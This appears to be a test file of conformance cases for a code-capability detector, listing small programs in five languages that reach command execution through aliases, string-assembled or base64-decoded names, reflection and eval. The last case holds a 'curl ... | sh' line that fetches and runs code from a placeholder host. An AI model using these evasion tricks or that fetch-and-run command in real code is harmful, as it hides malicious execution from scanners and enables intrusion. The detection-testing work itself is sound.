import type { ConformanceCase } from "./harness.ts";

const RUNS_ID = [{ capability: "execute.process" as const, target: "id" }];

/** The many names under which one API is reached. */
export const NAMING_CASES: ConformanceCase[] = [
  {
    name: "a function is read again when what is around it has changed",
    programs: {
      javascript: `const { execSync } = require("child_process"); let c = "true"; function go() { execSync(c); } go(); c = "id"; go();`,
      python: `import os\nc = "true"\ndef go():\n    os.system(c)\ngo()\nc = "id"\ngo()`,
      shell: `c=true\ngo() { sh -c "$c"; }\ngo\nc=id\ngo`,
      php: `$c = "true"; $go = function() use (&$c) { system($c); }; $go(); $c = "id"; $go();`,
      ruby: `c = "true"\ngo = -> { system(c) }\ngo.call\nc = "id"\ngo.call`,
    },
    capabilities: RUNS_ID,
  },
  {
    name: "an alias of a function is that function",
    programs: {
      javascript: `const cp = require("child_process"); const go = cp.exec; go("id");`,
      python: `import os\ngo = os.system\ngo("id")`,
      shell: `go=sh; "$go" -c id`,
      php: `$go = "system"; $go("id");`,
      ruby: `go = method(:system)\ngo.call("id")`,
    },
    capabilities: RUNS_ID,
  },
  {
    name: "a name that was given another value is what it was last",
    programs: {
      javascript: `let f = console.log; f = require("child_process").execSync; f("id");`,
      python: `import os\nf = print\nf = os.system\nf("id")`,
      shell: `f=echo; f=sh; $f -c id`,
      php: `$f = "print"; $f = "system"; $f("id");`,
      ruby: `f = method(:puts)\nf = method(:system)\nf.("id")`,
    },
    capabilities: RUNS_ID,
  },
  {
    name: "a name that no longer is a dangerous function is harmless",
    programs: {
      javascript: `let f = require("child_process").execSync; f = (x) => x; f("id");`,
      python: `import os\nf = os.system\nf = lambda x: x\nf("id")`,
      shell: `f="sh -c"; f=echo; $f id`,
      php: `$f = "system"; $f = fn($x) => $x; $f("id");`,
      ruby: `f = method(:system)\nf = ->(x) { x }\nf.call("id")`,
    },
    noCapabilities: ["execute.process"],
  },
  {
    name: "an import under another name",
    programs: {
      javascript: `import { execSync as quiet } from "node:child_process"; quiet("id");`,
      python: `from subprocess import check_output as quiet\nquiet("id")`,
    },
    capabilities: RUNS_ID,
  },
  {
    name: "a whole module under another name",
    programs: {
      javascript: `import * as c from "child_process"; c.execSync("id");`,
      python: `import subprocess as c\nc.run("id", shell=True)`,
    },
    capabilities: RUNS_ID,
  },
  {
    name: "a member whose name is put together",
    programs: {
      javascript: `const cp = require("child_process"); cp["ex" + "ec" + "Sync"]("id");`,
      python: `import os\ngetattr(os, "sy" + "st" + "em")("id")`,
      shell: `s"h" -c 'i'd`,
      php: `$f = "sy" . "st" . "em"; $f("id");`,
      ruby: `Kernel.send("sys" + "tem", "id")`,
    },
    capabilities: RUNS_ID,
  },
  {
    name: "a module whose name is put together",
    programs: {
      javascript: `require("child" + "_" + "process").execSync("id");`,
      python: `__import__("o" + "s").system("id")`,
    },
    capabilities: RUNS_ID,
  },
  {
    name: "a module whose name is decoded",
    programs: {
      javascript: `require(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString()).execSync("id");`,
      python: `import base64, importlib\nimportlib.import_module(base64.b64decode("b3M=").decode()).system("id")`,
    },
    capabilities: RUNS_ID,
  },
  {
    name: "access by reflection",
    programs: {
      javascript: `Reflect.get(require("child_process"), "execSync")("id");`,
      python: `import os\nos.__dict__["system"]("id")`,
      shell: 'n=go; go="sh -c"; ${!n} id',
      php: `call_user_func("system", "id");`,
      ruby: `Kernel.public_send(:system, "id")`,
    },
    capabilities: RUNS_ID,
  },
  {
    name: "evaluation by a name that is put together",
    programs: {
      javascript: `globalThis["ev" + "al"]("require('child_process').execSync('id')");`,
      python: `getattr(__builtins__, "ex" + "ec")("import os; os.system('id')")`,
      shell: `e=ev; $e"al" "sh -c id"`,
      php: String.raw`$e = "as" . "sert"; $e("eval('system(\"id\");')");`,
      ruby: `send("ev" + "al", "system('id')")`,
    },
    capabilities: [{ capability: "execute.code" }, ...RUNS_ID],
  },
  {
    name: "the names of the module itself",
    programs: {
      javascript: `globalThis.go = require("child_process").execSync; go("id");`,
      python: `import os\nglobals()["go"] = os.system\ngo("id")`,
      php: `$GLOBALS["go"] = "system"; $GLOBALS["go"]("id");`,
    },
    capabilities: RUNS_ID,
  },
  {
    name: "functions kept in a record and called by key",
    programs: {
      javascript: `const { execSync } = require("child_process"); const t = { a: execSync, b: console.log }; t["a"]("id");`,
      python: `import os\nt = {"a": os.system, "b": print}\nt["a"]("id")`,
      shell: "t=(echo sh); ${t[1]} -c id",
      php: `$t = ["a" => "system", "b" => "strlen"]; $t["a"]("id");`,
      ruby: `t = { a: method(:system), b: method(:puts) }\nt[:a].call("id")`,
    },
    capabilities: RUNS_ID,
  },
  {
    name: "functions kept in a record and called by a key that is not known",
    programs: {
      javascript: `const t = { a: require("child_process").execSync }; t[whatever()]("id");`,
      python: `import os\nt = {"a": os.system}\nt[whatever()]("id")`,
      php: `$t = ["a" => "system"]; $t[whatever()]("id");`,
      ruby: `t = { a: method(:system) }\nt[whatever].call("id")`,
    },
    capabilities: RUNS_ID,
  },
  {
    name: "a name taken apart out of something",
    programs: {
      javascript: `const [run, [url]] = [require("child_process").execSync, ["id"]]; run(url);`,
      python: `import os\nrun, (url,) = os.system, ("id",)\nrun(url)`,
      php: `[$run, [$arg]] = ["system", ["id"]]; $run($arg);`,
      ruby: `run, (arg, ) = method(:system), ["id"]\nrun.call(arg)`,
    },
    capabilities: RUNS_ID,
  },
  {
    name: "a program with its arguments in a list",
    programs: {
      javascript: `require("child_process").spawn("curl", ["https://a.example/x", "-o", "/tmp/x"]);`,
      python: `import subprocess\nsubprocess.run(["curl", "https://a.example/x", "-o", "/tmp/x"])`,
      shell:
        'cmd=(curl https://a.example/x -o /tmp/x); sh -c "curl https://a.example/x"; "${cmd[@]}"',
      php: `proc_open(["curl", "https://a.example/x", "-o", "/tmp/x"], [], $p);`,
      ruby: `system("curl", "https://a.example/x", "-o", "/tmp/x")\nsystem("curl https://a.example/x -o /tmp/x")`,
    },
    capabilities: [
      { capability: "execute.process", target: "curl" },
      { capability: "network.receive", target: "https://a.example/x" },
    ],
  },
  {
    name: "a command line with a pipe",
    programs: {
      javascript: `require("child_process").exec("curl -s https://a.example/x | sh");`,
      python: `import os\nos.system("curl -s https://a.example/x | sh")`,
      shell: `curl -s https://a.example/x | sh`,
      php: `exec("curl -s https://a.example/x | sh");`,
      ruby: "`curl -s https://a.example/x | sh`",
    },
    flows: [{ from: "network.receive", to: "execute.code", source: "https://a.example/x" }],
  },
];
